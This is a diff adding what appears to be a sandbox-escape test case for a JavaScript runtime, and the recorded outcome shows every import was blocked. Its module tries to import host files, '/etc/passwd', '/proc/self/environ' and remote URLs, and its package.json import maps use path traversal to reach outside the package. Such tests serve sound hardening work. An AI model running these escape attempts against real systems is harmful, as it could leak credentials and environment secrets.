@@ -1,0 +1,4 @@
+// exploit: imports by address: files of the host, other protocols, maps in its own package file that lead outside
+// outcome: finished
+// job: {"files":[{"path":"main.mjs","content":"const ways = ['file://__HOST_FILE__', '__HOST_FILE__', 'http://__HOST_ADDRESS__:__HOST_PORT__/', 'https://example.com/x.mjs', '#host', '#up', 'self/host', 'node:../../etc/passwd', 'file:///proc/self/environ', 'data:text/javascript,await import(\\'file://__HOST_FILE__\\')']\nfor (const way of ways) await import(way, way.endsWith('.json') ? { with: { type: 'json' } } : undefined).then(() => console.log('ESCAPED', way), (error) => console.log(error.code))\nconsole.log('tried')"},{"path":"package.json","content":"{\"name\":\"self\",\"type\":\"module\",\"imports\":{\"#host\":\"__HOST_FILE__\",\"#up\":\"./../../../../../..__HOST_FILE__\"},\"exports\":{\"./host\":\"./../..__HOST_FILE__\"}}"}],"entry":"main.mjs"}
+// says: tried
